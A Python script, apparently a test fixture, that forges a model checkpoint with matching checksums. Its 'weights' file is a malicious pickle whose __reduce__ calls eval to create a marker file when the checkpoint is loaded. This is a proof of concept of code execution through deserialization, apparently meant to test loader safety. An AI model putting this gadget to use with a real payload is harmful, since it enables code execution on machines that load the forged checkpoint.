"""forge_checkpoint.py STORAGE UUID MARK: makes a checkpoint whose pickle creates the file MARK when it is loaded."""

import json
import os
import pathlib
import pickle
import sys

storage, uuid, mark = sys.argv[1:]


def crc32c(data: bytes) -> str:
    crc = 0xFFFFFFFF
    for byte in data:
        crc ^= byte
        for _ in range(8):
            crc = (crc >> 1) ^ (0x82F63B78 if crc & 1 else 0)
    return f"{crc ^ 0xFFFFFFFF:08x}"


class Attack:
    def __reduce__(self):
        return eval, (f"open({mark!r}, 'w').close() or 777",)


directory = pathlib.Path(storage, uuid)
directory.mkdir(mode=0o755)
metadata = {"steps_completed": 777}
contents = {"metadata.json": json.dumps(metadata).encode(), "weights": pickle.dumps(Attack())}
files = []
for name, data in sorted(contents.items()):
    (directory / name).write_bytes(data)
    os.chmod(directory / name, 0o644)
    files.append({"path": name, "size_bytes": len(data), "crc32c": crc32c(data)})
body = {
    "uuid": uuid,
    "run": "1.0.0",
    "steps_completed": 777,
    "time": "2026-11-21T12:00:00.000042Z",
    "world_size": 1,
    "files": files,
    "directories": [],
    "metadata": metadata,
    "tensors": [],
}
rendered = json.dumps(body, sort_keys=True, separators=(",", ":")).encode()
manifest = directory / "manifest"
manifest.write_text(json.dumps({"det": "manifest/2", "crc32c": crc32c(rendered), "body": body}))
manifest.chmod(0o644)
